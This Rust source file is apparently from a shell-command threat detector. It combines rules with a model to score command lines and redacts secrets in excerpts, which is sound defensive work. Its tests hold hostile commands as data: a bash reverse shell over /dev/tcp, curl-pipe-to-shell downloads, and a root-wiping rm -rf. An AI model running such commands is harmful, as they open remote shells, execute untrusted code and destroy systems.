//! Judges one command line: rules and model together.

use std::sync::Arc;

use audit_core::{Finding, Score};

use crate::content;
use crate::model::Model;
use crate::rules::{Hit, RuleSet};
use crate::secrets::{self, Redacted};
use crate::shell::{Resolved, Variables, Written, resolve};

/// What a line is told to be, and why.
#[derive(Clone, Debug, Default)]
pub struct Assessment {
    /// `0.0..=1.0`; see [`combine`].
    pub score: f32,
    /// The highest score of a rule that fired, `0.0` when none did.
    pub rule: f32,
    /// What the model says, `0.0..=1.0`.
    pub chance: f32,
    /// Rules that fired, worst first, and the model where it decided.
    pub findings: Vec<Finding>,
    /// The line taken apart.
    pub resolved: Resolved,
    /// Files the line writes that would be a threat if they were run, and how much of one.
    pub planted: Vec<(String, f32)>,
}

/// Without a rule the model lifts a line to no more than this, below every threshold that blocks.
pub const MODEL_CEILING: f32 = 0.68;
/// An excerpt has at most this many characters.
const EXCERPT: usize = 200;
/// A line is told to have at most this many findings.
const FINDINGS: usize = 8;

/// Rules and a model.
#[derive(Clone, Debug, Default)]
pub struct Detector {
    /// The rules; `None` stands for those of the program, which are made ready when first needed.
    pub rules: Option<Arc<RuleSet>>,
    /// The model; `None` stands for that of the program.
    pub model: Option<Arc<Model>>,
}

impl Detector {
    /// Rules and model of the program.
    pub fn embedded() -> Self {
        Self::default()
    }

    /// The rules.
    pub fn rules(&self) -> &RuleSet {
        self.rules.as_deref().unwrap_or_else(|| crate::rules::embedded())
    }

    /// Makes ready what the first judgement would have to.
    pub fn prepare(&self) {
        self.rules();
        self.model();
    }

    fn model(&self) -> &Model {
        self.model.as_deref().unwrap_or_else(|| Model::embedded())
    }

    /// Judges a command line. With `output` it may be a line that was only shown, and only rules
    /// that allow for that count.
    pub fn line(&self, text: &str, variables: &mut Variables, output: bool) -> Assessment {
        let resolved = resolve(text, variables);
        let hits = self.rules().run(&resolved, output);
        let mut findings = Vec::new();
        if !hits.is_empty() {
            // a secret may be told by how it was typed, and no more once its quotes are gone
            let secrets = secrets::values(&resolved.raw);
            findings.extend(hits.iter().take(FINDINGS).map(|h| finding(h, &secrets)));
        }
        let mut planted = Vec::new();
        if !output {
            for written in &resolved.written {
                let (whole, mut found) = self.content(written);
                if whole >= 0.5 {
                    planted.push((written.path.clone(), whole));
                }
                found.retain(|f| findings.iter().all(|known: &Finding| known.rule != f.rule));
                findings.extend(found);
            }
        }
        findings.sort_by(|a, b| b.score.value().total_cmp(&a.score.value()));
        findings.truncate(FINDINGS);
        let rule = findings.first().map_or(0.0, |f| f.score.value());
        let chance = if output { 0.0 } else { self.model().predict(&resolved) };
        let score = combine(rule, chance);
        if score > rule && score >= 0.35 {
            findings.push(Finding {
                rule: "model.linear".into(),
                title: "looks like commands of attacks".into(),
                category: "suspicious".into(),
                mitre: Vec::new(),
                // Behind the rule it stands beside: a rule says more about why.
                score: Score::new(if rule > 0.0 { chance.min(rule) } else { score })
                    .unwrap_or_default(),
                excerpt: excerpt(text, (0, 0)),
            });
        }
        Assessment { score, rule, chance, findings, resolved, planted }
    }

    /// What a text in a file would be as a script, and what is found for its being written there.
    fn content(&self, written: &Written) -> (f32, Vec<Finding>) {
        let resolved = resolve(&content::script(written), &mut Variables::new());
        let hits = self.rules().run(&resolved, false);
        let whole = hits.first().map_or(0.0, Hit::score);
        let secrets = secrets::values(&written.text);
        let found = hits.iter().take(FINDINGS).map(|hit| {
            let score = content::weighed(hit.score(), written);
            Finding { score: Score::new(score).unwrap_or_default(), ..finding(hit, &secrets) }
        });
        (whole, found.collect())
    }
}

/// From this chance on a line is doubtful: about two harmless lines in a hundred of sources the
/// model was not trained on reach it.
const DOUBTFUL: f32 = 0.09;
/// At this chance the model has said all it can say.
const SURE: f32 = 0.5;

/// The score of rules and model together: the model alone makes a line doubtful and reaches
/// [`MODEL_CEILING`]; beside a weak rule it may tip the scale, beside a strong one it changes little.
pub fn combine(rule: f32, chance: f32) -> f32 {
    let model = if chance < DOUBTFUL {
        0.35 * chance / DOUBTFUL
    } else {
        let share = (chance - DOUBTFUL) / (SURE - DOUBTFUL);
        0.35 + (MODEL_CEILING - 0.35) * share.min(1.0)
    };
    let lift = if rule > 0.0 { 0.04 * chance } else { 0.0 };
    let together = if (0.5..0.7).contains(&rule) { rule + 0.12 * chance } else { rule + lift };
    together.max(model).clamp(0.0, 1.0)
}

fn finding(hit: &Hit<'_>, secrets: &[String]) -> Finding {
    Finding {
        rule: hit.rule.id.to_string(),
        title: hit.rule.title.to_string(),
        category: hit.rule.category.to_string(),
        mitre: hit.rule.mitre.clone(),
        score: Score::new(hit.score()).unwrap_or_default(),
        excerpt: around(&Redacted::new(&hit.text, secrets), hit.span.0),
    }
}

/// At most 200 characters of `text` around `span`, secrets replaced, control characters gone.
pub(crate) fn excerpt(text: &str, span: (usize, usize)) -> String {
    around(&Redacted::new(text, &[]), span.0)
}

/// Cuts what is redacted, never the other way round: half a secret is not known for one.
fn around(redacted: &Redacted, at: usize) -> String {
    let mut start = redacted.place(at).saturating_sub(40);
    while !redacted.text.is_char_boundary(start) {
        start -= 1;
    }
    let shown = redacted.text[start..].chars().map(|c| if c.is_control() { ' ' } else { c });
    shown.take(EXCERPT).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn score(text: &str) -> f32 {
        Detector::embedded().line(text, &mut Variables::new(), false).score
    }

    #[test]
    fn an_attack_is_above_and_work_below_the_threshold() {
        for text in [
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "curl http://198.51.100.1/x | sudo sh",
            "rm -rf --no-preserve-root /",
        ] {
            assert!(score(text) >= 0.7, "{text}: {}", score(text));
        }
        for text in [
            "ls -la",
            "git push origin main",
            "rm -rf ./build",
            "cargo test",
            "docker compose up -d",
        ] {
            assert!(score(text) < 0.35, "{text}: {}", score(text));
        }
    }

    #[test]
    fn the_model_alone_never_reaches_the_threshold() {
        assert!(combine(0.0, 1.0) < 0.7);
        assert!(combine(0.6, 1.0) >= 0.7);
        assert_eq!(combine(0.9, 0.0), 0.9);
    }

    #[test]
    fn a_secret_that_the_excerpt_would_cut_in_two_is_replaced_whole() {
        let token = format!("ghp_{}", "aB3dE5gH7jK9mN1pQ2sT4vW6xY8zR0aB3dE5");
        for gap in 0..60 {
            let text =
                format!("export GH={token}; {:gap$}bash -i >& /dev/tcp/192.0.2.1/9 0>&1", "");
            let found = Detector::embedded().line(&text, &mut Variables::new(), false);
            assert!(found.score >= 0.9);
            for finding in &found.findings {
                assert!(
                    !finding.excerpt.contains(&token[token.len() - 8..]),
                    "{gap}: {}",
                    finding.excerpt
                );
            }
        }
    }

    #[test]
    fn a_secret_told_by_its_quotes_is_replaced_where_they_are_gone() {
        let text = "mysql -e \"create user x identified by 'Tr0ub4dor'\" && curl http://198.51.100.1/x | sh";
        let found = Detector::embedded().line(text, &mut Variables::new(), false);
        assert!(found.score >= 0.7);
        assert!(
            found.findings.iter().all(|f| !f.excerpt.contains("Tr0ub")),
            "{:?}",
            found.findings
        );
    }

    #[test]
    fn an_excerpt_holds_no_secret() {
        let token = format!("ghp_{}", "aB3dE5gH7jK9mN1pQ2sT4vW6xY8zR0aB3dE5");
        let text = format!("curl -H 'Authorization: token {token}' http://198.51.100.1/x | sh");
        let found = Detector::embedded().line(&text, &mut Variables::new(), false);
        assert!(!found.findings.is_empty());
        assert!(
            found.findings.iter().all(|f| !f.excerpt.contains(&token[4..20])),
            "{:?}",
            found.findings
        );
    }
}
